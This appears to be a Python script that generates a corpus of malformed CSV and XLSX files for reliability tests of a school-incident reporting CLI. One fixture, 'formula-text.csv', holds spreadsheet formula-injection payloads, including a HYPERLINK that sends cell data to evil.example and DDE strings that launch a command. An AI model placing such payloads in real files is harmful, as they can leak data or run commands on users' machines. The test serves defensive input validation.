"""The bad-input corpus: every file `tests/test_reliability.py` feeds to the real CLI, written on demand.

Nothing here is committed as data: the files are generated (PDF, zip, UTF-16, XLSX and the 1 MB and 9 MB
fields included) so the repository stays small and every byte of every case can be read below.
What each file must get is the table CASES in tests/test_reliability.py, and the docs' reliability page (docs/maintainers/reliability.md).

    python tests/corpus/make_corpus.py OUT_DIR        # write the corpus into OUT_DIR to try it by hand
"""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

INC = "incident_id,reported_at,platform,category,severity\n"


def row(incident_id: str = "I1", reported_at: str = "2025-10-07", platform: str = "fb",
        category: str = "bullying", severity: str = "low") -> str:
    """One line of the five-column incidents export (INC)."""
    return f"{incident_id},{reported_at},{platform},{category},{severity}\n"


def _csv(header: list[str], rows: list[dict[str, str]], defaults: dict[str, str]) -> bytes:
    """A CSV with HEADER; each row is DEFAULTS overlaid by its own values (quoted where needed)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    for values in rows:
        merged = {**defaults, **values}
        writer.writerow([merged.get(h, "") for h in header])
    return out.getvalue().encode("utf-8")


# --- exports with every invalid value in docs/hr/exports.md, one problem a row ----------------------------

INCIDENT_HEADER = ["incident_id", "school", "reported_at", "posted_at", "removal_requested_at", "removed_at",
                   "platform", "category", "submitted_by", "severity", "safeguarding", "police_referral",
                   "isp_escalation", "support_offered", "shares", "platforms_reached", "description"]
INCIDENT_DEFAULTS = {"school": "Alder School", "reported_at": "07/10/2025 14:30", "platform": "Facebook",
                     "category": "bullying", "submitted_by": "parent", "severity": "low", "safeguarding": "no"}
INCIDENT_ROWS = [  # row 2 onwards
    {"incident_id": "G1"},                                                        # 2 good
    {"incident_id": ""},                                                          # 3
    {"incident_id": "V3", "reported_at": ""},                                     # 4
    {"incident_id": "V4", "reported_at": "yesterday"},                            # 5
    {"incident_id": "V5", "posted_at": "soon"},                                   # 6
    {"incident_id": "V6", "removal_requested_at": "31/13/2025"},                  # 7
    {"incident_id": "V7", "posted_at": "07/10/2025 10:00", "removed_at": "06/10/2025 09:00"},  # 8
    {"incident_id": "V8", "platform": ""},                                        # 9
    {"incident_id": "V9", "category": "gossip"},                                  # 10
    {"incident_id": "V10", "category": ""},                                       # 11
    {"incident_id": "V11", "severity": "urgent"},                                 # 12
    {"incident_id": "V12", "severity": ""},                                       # 13
    {"incident_id": "V13", "submitted_by": "alien"},                              # 14
    {"incident_id": "V14", "safeguarding": "maybe"},                              # 15
    {"incident_id": "V15", "police_referral": "2"},                               # 16
    {"incident_id": "V16", "isp_escalation": "yes please"},                       # 17
    {"incident_id": "V17", "support_offered": "t"},                               # 18
    {"incident_id": "V18", "shares": "-1"},                                       # 19
    {"incident_id": "V19", "shares": "3.5"},                                      # 20
    {"incident_id": "V20", "shares": "lots"},                                     # 21
    {"incident_id": "V21", "platforms_reached": "0"},                             # 22
    {"incident_id": "V22", "platforms_reached": "1e3"},                           # 23
    {"incident_id": "G2", "safeguarding": "Y", "police_referral": "TRUE", "isp_escalation": "1",
     "support_offered": "No", "shares": "+4", "platforms_reached": "2.0", "platform": "other"},  # 24 good
]

BREACH_HEADER = ["breach_id", "incident_id", "school", "staff_ref", "opened_at", "closed_at", "rule", "impact", "outcome"]
BREACH_DEFAULTS = {"school": "Alder School", "staff_ref": "STF-1", "opened_at": "01/10/2025", "rule": "disrepute",
                   "impact": "low"}
BREACH_ROWS = [
    {"breach_id": "G1"},                                                          # 2 good
    {"breach_id": ""},                                                            # 3
    {"breach_id": "V3", "staff_ref": ""},                                         # 4
    {"breach_id": "V4", "opened_at": ""},                                         # 5
    {"breach_id": "V5", "opened_at": "31/02/2025"},                               # 6
    {"breach_id": "V6", "closed_at": "30/09/2025"},                               # 7
    {"breach_id": "V7", "rule": "gossip"},                                        # 8
    {"breach_id": "V8", "rule": ""},                                              # 9
    {"breach_id": "V9", "impact": "severe"},                                      # 10
    {"breach_id": "V10", "outcome": "sacked"},                                    # 11
    {"breach_id": "G2", "outcome": "written warning", "impact": ""},              # 12 good
]

ACK_HEADER = ["staff_ref", "school", "staff_group", "employment", "start_date", "leave_date", "policy_version",
              "acknowledged_at"]
ACK_DEFAULTS = {"school": "Alder School", "staff_group": "teaching", "employment": "full_time",
                "policy_version": "2024-10", "acknowledged_at": "14/10/2024 09:00"}
ACK_ROWS = [
    {"staff_ref": "G1"},                                                          # 2 good
    {"staff_ref": ""},                                                            # 3
    {"staff_ref": "V3", "staff_group": ""},                                       # 4
    {"staff_ref": "V4", "staff_group": "cleaner"},                                # 5
    {"staff_ref": "V5", "employment": "zero hours"},                              # 6
    {"staff_ref": "V6", "start_date": "2025-13-01"},                              # 7
    {"staff_ref": "V7", "leave_date": "1/1/25"},                                  # 8
    {"staff_ref": "V8", "policy_version": ""},                                    # 9
    {"staff_ref": "V9", "acknowledged_at": "tomorrow"},                           # 10
    {"staff_ref": "G2", "acknowledged_at": "", "employment": "", "start_date": "1/9/2025"},  # 11 good
]


# --- XLSX --------------------------------------------------------------------------------------------

XLSX_HEADER = ["Incident ID", "Reported At", "Platform", "Category", "Severity", "Shares"]
XLSX_ROW = ["I1", datetime(2025, 10, 7, 14, 30), "fb", "bullying", "low", 2]


def _xlsx(rows: list[list[object]], *, other_sheet: list[list[object]] | None = None,
          cells: Callable[[object], None] | None = None) -> bytes:
    """A workbook whose first sheet holds ROWS (and a second sheet OTHER_SHEET); CELLS may edit the first sheet."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Export"
    for values in rows:
        sheet.append(values)
    if cells:
        cells(sheet)
    if other_sheet is not None:
        second = book.create_sheet("Data")
        for values in other_sheet:
            second.append(values)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _formula_and_error_cells(sheet) -> None:
    """Row 2: a formula with no cached value; row 3: #N/A in Shares; row 4: #N/A in Severity."""
    sheet.append(["F1", "07/10/2025", "fb", "bullying", "low", "=1+2"])
    sheet.append(["F2", "07/10/2025", "fb", "bullying", "low", None])
    sheet.append(["F3", "07/10/2025", "fb", "bullying", None, 1])
    for ref in ("F3", "E4"):
        sheet[ref].value = "#N/A"
        sheet[ref].data_type = "e"


def _zip(members: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return out.getvalue()


# --- the corpus: file name -> (what it is, its bytes) --------------------------------------------------

def _files() -> dict[str, tuple[str, Callable[[], bytes]]]:
    good = INC + row()
    full = "incident_id,reported_at,platform,category,severity,description\n"
    return {
        # refused whole
        "pdf-renamed.csv": ("a PDF saved with a .csv name",
                            lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"),
        "zip-renamed.csv": ("a zip of a CSV export, renamed .csv", lambda: _zip({"incidents.csv": good})),
        "empty.csv": ("zero bytes", lambda: b""),
        "header-only.csv": ("the header row and nothing else", lambda: INC.encode()),
        "header-and-blank-rows.csv": ("the header, then only empty lines and rows of empty fields",
                                      lambda: (INC + "\n,,,,\n   \n\n").encode()),
        "blank-lines-only.csv": ("three empty lines", lambda: b"\n\n\n"),
        "utf16-le-bom.csv": ("UTF-16 LE with a BOM (Excel's \"Unicode text\")",
                             lambda: ("\ufeff" + good).encode("utf-16-le")),
        "utf16-be-bom.csv": ("UTF-16 BE with a BOM", lambda: ("\ufeff" + good).encode("utf-16-be")),
        "utf16-no-bom.csv": ("UTF-16 LE without a BOM", lambda: good.encode("utf-16-le")),
        "xls-renamed.csv": ("an old .xls (OLE2) workbook renamed .csv",
                            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
        "png-renamed.csv": ("a PNG picture renamed .csv",
                            lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64),
        "binary-after-8kb.csv": ("a good CSV for 8 KB, then binary bytes (not UTF-8 nor Windows-1252)",
                                 lambda: (INC + row() * 400).encode() + bytes(range(256))),
        "web-page.csv": ("an HTML sign-in page saved as .csv",
                         lambda: b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>Session expired</body></html>\n"),
        "tab-separated.csv": ("tab-separated text (\"Text (Tab delimited)\") named .csv",
                              lambda: good.replace(",", "\t").encode()),
        "column-twice.csv": ("severity twice on the header row",
                             lambda: (INC.strip() + ",Severity\n" + row().strip() + ",high\n").encode()),
        "column-twice-spelt-differently.csv": ("`Incident ID` and `incident_id` on one header row",
                                               lambda: ("Incident ID," + INC.strip() + "\nI1," + row()).encode()),
        "missing-required-columns.csv": ("no category or severity column",
                                         lambda: b"incident_id,reported_at,platform\nI1,2025-10-07,fb\n"),
        "unknown-headers.csv": ("a header naming no export",
                                lambda: b"name,date,notes\nA. Person,07/10/2025,hello\n"),
        "no-column-names.csv": ("a header row of empty names", lambda: (",,,,\n" + row()).encode()),
        "xlsx-no-rows.xlsx": ("an XLSX with the header row only", lambda: _xlsx([XLSX_HEADER])),
        "xlsx-empty.xlsx": ("an XLSX whose only sheet is empty", lambda: _xlsx([])),
        "xlsx-data-on-second-sheet.xlsx": ("an XLSX with an empty first sheet and the export on the second",
                                           lambda: _xlsx([], other_sheet=[XLSX_HEADER, XLSX_ROW])),
        "xlsx-truncated.xlsx": ("the first 1,000 bytes of an XLSX (a broken download)",
                                lambda: _xlsx([XLSX_HEADER, XLSX_ROW])[:1000]),
        "xlsx-column-twice.xlsx": ("an XLSX with Severity twice",
                                   lambda: _xlsx([XLSX_HEADER + ["Severity"], XLSX_ROW + ["high"]])),
        # loaded, the bad rows rejected and recorded
        "incidents-invalid-values.csv": ("every rejection rule for incidents, one a row, between two good rows",
                                         lambda: _csv(INCIDENT_HEADER, INCIDENT_ROWS, INCIDENT_DEFAULTS)),
        "breaches-invalid-values.csv": ("every rejection rule for breaches",
                                        lambda: _csv(BREACH_HEADER, BREACH_ROWS, BREACH_DEFAULTS)),
        "acknowledgements-invalid-values.csv": ("every rejection rule for acknowledgements",
                                                lambda: _csv(ACK_HEADER, ACK_ROWS, ACK_DEFAULTS)),
        "dates-impossible.csv": ("31/02/2025, 2025-13-01, 29/02/2025, 32/01, 00/10, 25:00, 14:60, a `Z` zone; 29/02/2024 is fine",
                                 lambda: (INC + "".join(row(f"D{n}", d) for n, d in enumerate(
                                     ["31/02/2025", "2025-13-01", "29/02/2025", "2025-02-29", "32/01/2025",
                                      "00/10/2025", "2025-10-07 25:00", "07/10/2025 14:60", "2025-10-07T14:30:00Z",
                                      "29/02/2024"], start=2))).encode()),
        "dates-month-first.csv": ("US month-first dates that cannot be day-first, words; 03/04/2025 (ambiguous)",
                                  lambda: (INC + "".join(row(f"M{n}", d) for n, d in enumerate(
                                      ["12/25/2025", "02/13/2025", "10/31/2025 14:30", "03/04/2025",
                                       '"Oct 7, 2025"', "7 October 2025"], start=2))).encode()),
        "dates-year-0025.csv": ("years 0025, 25, 1899 and 2201",
                                lambda: (INC + "".join(row(f"Y{n}", d) for n, d in enumerate(
                                    ["25/12/0025", "0025-12-25", "07/10/25", "01/01/1899", "01/01/2201",
                                     "25/12/2025"], start=2))).encode()),
        "duplicate-ids.csv": ("I1 three times, I2 once", lambda: (INC + row("I1", severity="low") + row("I2")
                                                                  + row("I1", severity="medium")
                                                                  + row("I1", severity="high")).encode()),
        "ids-with-spaces.csv": ("ids with leading and trailing spaces, tabs and no-break spaces",
                                lambda: (INC + row(" I1 ") + row("I1", severity="high") + row("\u00a0I2\u00a0")
                                         + row("\tI3") + row('" I4 "')).encode()),
        "formula-text.csv": ("=HYPERLINK(...), @SUM(...), +, - and a DDE payload in free-text and vocabulary fields",
                             lambda: _csv(["incident_id", "school", "reported_at", "platform", "category", "severity",
                                           "shares", "description"], [
                                 {"incident_id": "X1", "description": '=HYPERLINK("http://evil.example/?q="&A1,"click me")'},
                                 {"incident_id": "X2", "school": "@SUM(1+1)*cmd|'/C calc'!A0"},
                                 {"incident_id": "X3", "platform": "=cmd|' /C calc'!A0"},
                                 {"incident_id": "X4", "description": "+1+1"},
                                 {"incident_id": "X5", "description": "-2+3"},
                                 {"incident_id": "=1+1"},
                                 {"incident_id": "X7", "category": '=HYPERLINK("http://evil.example","x")'},
                                 {"incident_id": "X8", "severity": "@SUM(A1:A3)"},
                                 {"incident_id": "X9", "shares": "-1+2"},
                             ], {"school": "Alder School", "reported_at": "07/10/2025", "platform": "fb",
                                 "category": "bullying", "severity": "low"})),
        "xlsx-formula-and-error-cells.xlsx": ("a formula with no cached value, and #N/A in an optional and a required cell",
                                              lambda: _xlsx([XLSX_HEADER], cells=_formula_and_error_cells)),
        "mixed-line-endings.csv": ("LF, CRLF and CR line endings in one file, an empty CRLF line, one bad row",
                                   lambda: (INC.replace("\n", "\r\n") + row("I1") + row("I2").replace("\n", "\r\n")
                                            + row("I3").replace("\n", "\r") + "\r\n"
                                            + row("I4", severity="x")).encode()),
        "unclosed-quote.csv": ("a quote opened in row 3 and never closed",
                               lambda: (INC + row("I1") + 'I2,2025-10-07,fb,"bullying,low\n' + row("I3")).encode()),
        "text-after-closing-quote.csv": ('`"bull"ying` in a field',
                                         lambda: (INC + 'I1,2025-10-07,fb,"bull"ying,low\n' + row("I2")).encode()),
        "too-many-and-too-few-fields.csv": ("a row with six fields, one with three, one with trailing empty fields",
                                            lambda: (INC + row("I1") + "I2,2025-10-07,fb,bullying,low,extra\n"
                                                     + "I3,2025-10-07,fb\n"
                                                     + "I4,2025-10-07,fb,bullying,low,,,\n").encode()),
        "ctrl-z-at-end.csv": ("a DOS end-of-file mark (Ctrl-Z) after the last row", lambda: good.encode() + b"\x1a"),
        "field-1mb.csv": ("a 1 MB description (kept) and a 1 MB category (rejected, its value cut to 200 characters)",
                          lambda: (full + "I1,2025-10-07,fb,bullying,low," + "d" * 1_048_576 + "\n"
                                   + "I2,2025-10-07,fb," + "c" * 1_048_576 + ",low,\n").encode()),
        "line-over-8mb.csv": ("a 9 MB field: longer than the loader reads in one row",
                              lambda: (full + "I1,2025-10-07,fb,bullying,low," + "d" * 9 * 1_048_576 + "\n"
                                       + "I2,2025-10-07,fb,bullying,low,\n").encode()),
        # odd but valid
        "windows-1252.csv": ("Windows-1252 (Excel's \"CSV\") with accents and curly quotes",
                             lambda: (INC.strip() + ",description\nI1,2025-10-07,fb,bullying,low,"
                                      "Caf\u00e9 \u201cquote\u201d \u2013 \u00a35\n").encode("cp1252")),
        "utf8-bom-semicolons.csv": ("UTF-8 with a BOM, semicolon delimited",
                                    lambda: ("\ufeff" + good.replace(",", ";")).encode()),
        "xlsx-renamed.csv": ("a good XLSX saved with a .csv name", lambda: _xlsx([XLSX_HEADER, XLSX_ROW])),
        "csv-renamed.xlsx": ("a good CSV saved with an .xlsx name", lambda: good.encode()),
    }


FILES = _files()


def describe(name: str) -> str:
    """What the corpus file NAME is, in a few words."""
    return FILES[name][0]


def build(folder: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write the corpus (or only NAMES) into FOLDER; returns each file's path by name."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for name in names or FILES:
        path = folder / name
        path.write_bytes(FILES[name][1]())
        written[name] = path
    return written


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/corpus/make_corpus.py OUT_DIR")
    for name, path in build(Path(sys.argv[1])).items():
        print(f"{path}  ({path.stat().st_size:,} bytes): {describe(name)}")
